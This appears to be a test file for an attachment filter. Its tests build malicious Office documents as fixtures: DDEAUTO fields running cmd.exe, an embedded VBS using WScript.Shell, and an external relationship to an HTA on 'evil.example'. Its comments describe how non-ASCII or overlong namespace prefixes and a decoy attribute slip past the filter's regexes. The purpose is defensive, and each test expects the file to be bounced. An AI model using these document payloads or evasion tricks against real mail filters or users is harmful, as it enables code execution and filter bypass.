import { olePackageObject, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit, outboundFile } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// A50-1 (high): the new readers find XML elements by a regex that allows a namespace prefix of at most 64 ASCII
// word characters (`<(?:[\w.-]{1,64}:)?instrText`, `…package`, `…part`, `…Relationship`). XML allows any NCName
// as a prefix: letters of any script (`wé:`) and any length. Word's parser is namespace-aware and reads
// `<wé:instrText xmlns:wé="…/wordprocessingml/2006/main">` as w:instrText. The field, the Flat OPC package and
// the relationship go unseen.
// A50-9 (medium): a Flat OPC part's name is taken from the attribute literally spelled `pkg:name`, whatever namespace
// `pkg` is bound to; Word reads the attribute in the package namespace (`x:name` here) and a decoy `pkg:name`
// bound elsewhere renames the relationships part so its external targets are never read.
const stack = useLocalStack();
const kit = attackerKit(stack);
const CARD = '4111 1111 1111 1111';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const PKG = 'http://schemas.microsoft.com/office/2006/xmlPackage';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;
const docxWith = (paragraph: string) =>
  zipFile([
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0"?><w:document xmlns:w="${W}"><w:body><w:p>${paragraph}</w:p></w:body></w:document>`,
    },
  ]);
const ddeField = (prefix: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><${prefix}:instrText xmlns:${prefix}="${W}" xml:space="preserve">DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</${prefix}:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const vbsObject = () =>
  olePackageObject('invoice.vbs', Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n'));
const workbook = zipFile([
  {
    name: 'xl/sharedStrings.xml',
    data: `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>${CARD}</t></si></sst>`,
  },
  { name: 'xl/workbook.xml', data: '<workbook/>' },
]);
// A Flat OPC document whose package namespace has the prefix `p`, with a binary part `binName`.
const flatOpc = (p: string, bin: Buffer, binName: string) =>
  Buffer.from(
    `<?xml version="1.0"?><?mso-application progid="Word.Document"?><${p}:package xmlns:${p}="${PKG}"><${p}:part ${p}:name="/word/document.xml" ${p}:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"><${p}:xmlData><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>Report</w:t></w:r></w:p></w:body></w:document></${p}:xmlData></${p}:part><${p}:part ${p}:name="${binName}" ${p}:contentType="application/vnd.openxmlformats-officedocument.oleObject"><${p}:binaryData>${bin.toString('base64')}</${p}:binaryData></${p}:part></${p}:package>`,
  );
const externalRels = (prefix: string) => {
  const e = prefix ? `${prefix}:` : '';
  const ns = prefix ? `xmlns:${prefix}` : 'xmlns';
  return `<${e}Relationships ${ns}="http://schemas.openxmlformats.org/package/2006/relationships"><${e}Relationship Id="rId9" Type="${REL}/oleObject" Target="\\\\evil.example\\s\\invoice.hta" TargetMode="External"/></${e}Relationships>`;
};

describe('A50-1: namespace prefixes the regexes do not allow', () => {
  it('bounces a .docx whose DDEAUTO field is in a w:instrText under a non-ASCII prefix', async () => {
    expect(await verdict('Invoice.docx', docxWith(ddeField('wé')), DOCX)).toBe('BOUNCE');
  });
  it('bounces a .docx whose DDEAUTO field is in a w:instrText under a 65-letter prefix', async () => {
    expect(await verdict('Invoice.docx', docxWith(ddeField('w'.repeat(65))), DOCX)).toBe('BOUNCE');
  });
  it('bounces a Flat OPC .xml embedding a packaged script, its package prefix non-ASCII', async () => {
    expect(
      await verdict(
        'Invoice.xml',
        flatOpc('pké', vbsObject(), '/word/embeddings/oleObject1.bin'),
        'text/xml',
      ),
    ).toBe('BOUNCE');
  });
  it('bounces an outgoing Flat OPC .xml embedding a workbook with a card, its package prefix non-ASCII', async () => {
    const file = flatOpc('pké', workbook, '/word/embeddings/Microsoft_Excel_Worksheet.xlsx');
    expect(await kit.outbound(outboundFile('Report.xml', file, 'text/xml'))).toBe('BOUNCE');
  });
  it('bounces an outgoing Flat OPC .doc embedding a workbook with a card, its package prefix 65 letters long', async () => {
    const file = flatOpc('p'.repeat(65), workbook, '/word/embeddings/Microsoft_Excel_Worksheet.xlsx');
    expect(await kit.outbound(outboundFile('Report.doc', file))).toBe('BOUNCE');
  });
  // Speculative: whether Office's package reader takes a prefixed relationships element is not verified.
  it('bounces a .docx whose relationship to a script on a share is under a non-ASCII prefix', async () => {
    const file = zipFile([
      { name: 'word/document.xml', data: `<w:document xmlns:w="${W}"><w:body/></w:document>` },
      { name: 'word/_rels/document.xml.rels', data: externalRels('ré') },
    ]);
    expect(await verdict('Invoice.docx', file, DOCX)).toBe('BOUNCE');
  });
  it('(control) bounces the same with the usual prefixes', async () => {
    expect(await verdict('Invoice.docx', docxWith(ddeField('ww')), DOCX)).toBe('BOUNCE');
    expect(
      await verdict('Invoice.xml', flatOpc('pk', vbsObject(), '/word/embeddings/oleObject1.bin'), 'text/xml'),
    ).toBe('BOUNCE');
  });
});

describe('A50-9: a Flat OPC part named by a decoy pkg:name bound to another namespace', () => {
  it('bounces a Flat OPC .xml whose real part name (x:name) is its relationships to a script on a share', async () => {
    const file = `<?xml version="1.0"?><?mso-application progid="Word.Document"?><x:package xmlns:x="${PKG}" xmlns:pkg="urn:decoy"><x:part pkg:name="/word/document.xml" x:name="/word/_rels/document.xml.rels" x:contentType="application/vnd.openxmlformats-package.relationships+xml"><x:xmlData>${externalRels('')}</x:xmlData></x:part></x:package>`;
    expect(await verdict('Invoice.xml', Buffer.from(file), 'text/xml')).toBe('BOUNCE');
  });
});
